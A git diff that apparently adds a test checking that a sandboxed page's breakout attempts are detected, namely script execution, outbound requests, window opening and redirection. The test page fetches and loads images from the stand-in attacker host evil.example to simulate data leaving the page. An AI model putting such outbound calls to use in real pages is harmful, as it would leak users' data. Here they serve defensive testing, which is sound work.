@@ -6,6 +6,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { after, before, describe, test } from "node:test";
+import { Site } from "../hostile/site.mjs";
 import { Bench, engine, PAGES } from "./support.mjs";
 
 /** @type {Bench} */
@@ -96,4 +97,31 @@ for (const over of PAGES) {
 test("over http it is told what is not there", async () => {
   const opened = await open('<script src="missing.js"></script>', "http");
   await heard(opened, /^404: .*missing\.js$/);
+});
+
+test("a page that breaks out is caught: what it runs, asks for, opens, and where it goes", async () => {
+  const site = await Site.open(bench.browser);
+  /** Looks into the page until there is one like it. @param {() => string[]} told @param {RegExp} one */
+  const caught = async (told, one) => {
+    for (const end = Date.now() + 20_000; !told().some((crime) => one.test(crime)); await site.page.waitForTimeout(20)) {
+      if (Date.now() > end) assert.fail(`${one} is not among: ${told().join(" | ")}`);
+    }
+  };
+  assert.deepEqual(site.crimes, []);
+  await site.page.evaluate(() => void (/** @type {any} */ (window).pwned(1)));
+  await caught(() => site.crimes, /^ran on /);
+  await site.page.evaluate(() => void fetch("https://evil.example/asked").catch(() => {}));
+  await caught(() => site.crimes, /^\w+ request to https:\/\/evil\.example\/asked$/);
+  await site.page.evaluate(() => {
+    for (const policy of ["unsafe-url", "no-referrer"]) Object.assign(new Image(), { referrerPolicy: policy, src: `https://evil.example/${policy}.png` });
+  });
+  await caught(() => site.crimes, /^image request to .*\/unsafe-url\.png$/);
+  // Without a referrer it is what a story may have, and told all the same.
+  await caught(() => site.left.map(({ url, type }) => `${type} ${url}`), /^image .*\/no-referrer\.png$/);
+  assert.deepEqual(site.crimes.filter((crime) => crime.includes("no-referrer")), []);
+  await site.page.evaluate(() => void window.open("about:blank"));
+  await caught(() => site.taken, /^window /);
+  await site.page.evaluate(() => void setTimeout(() => (location.href = "/exported.html#gone")));
+  await caught(() => site.taken, /exported\.html#gone$/);
+  await site.close();
 });
